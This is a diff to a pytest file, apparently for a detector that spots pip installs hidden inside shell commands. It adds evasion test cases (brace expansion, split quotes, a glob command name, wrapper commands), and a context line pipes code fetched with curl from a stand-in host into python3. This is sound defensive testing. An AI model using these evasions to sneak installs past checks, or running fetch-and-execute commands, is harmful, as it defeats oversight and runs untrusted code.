@@ -55,6 +55,9 @@ INSTALLS = [
     (["sh", "-c", "alias p='pip install'\np evil"], ["evil"]),  # dash expands aliases in scripts
     (["su", "-c", "pip install evil", "root"], ["evil"]),
     (["sh", "-c", "bash <<'EOF'\npip install evil\nEOF\n"], ["evil"]),
+    (["bash", "-c", "{pip,install,evil}"], ["evil"]),  # brace expansion
+    (["sh", "-c", "p''ip install evil"], ["evil"]),
+    (["flock", "/tmp/l", "ionice", "-c3", "pip", "install", "evil"], ["evil"]),
 ]
 
 
@@ -84,6 +87,7 @@ def test_requirements_known_only_at_run_time_are_listed(argv):
     ["python3", "-c", "import subprocess; subprocess.run(['pip', 'install', 'evil'])"],
     ["sh", "-c", "pip install 'unterminated"],
     ["sh", "-c", "curl -s https://x/get.py | python3"],
+    ["sh", "-c", "/usr/bin/pi? install evil"],  # a glob as the command name
     ["env"] * 3000 + ["pip", "install", "evil"],  # deeper than the interpreter's recursion limit
 ])
 def test_places_an_install_can_hide_are_unverifiable_not_clean(argv):
@@ -95,6 +99,7 @@ def test_places_an_install_can_hide_are_unverifiable_not_clean(argv):
 
 @pytest.mark.parametrize("argv", [
     ["sh", "-c", "echo 'pip install evil'"],
+    ["sh", "-c", "echo pip install evil; printf '%s' pip install"],
     ["sh", "-c", "cat > /tmp/x <<'EOF'\npip install evil\nEOF\n"],
     ["python3", "-m", "pipx_tool", "install", "x"],
     ["sh", "-c", 'test -x "$(command -v pip)" && python3 train.py "$@"', "sh", "--epochs", "3"],
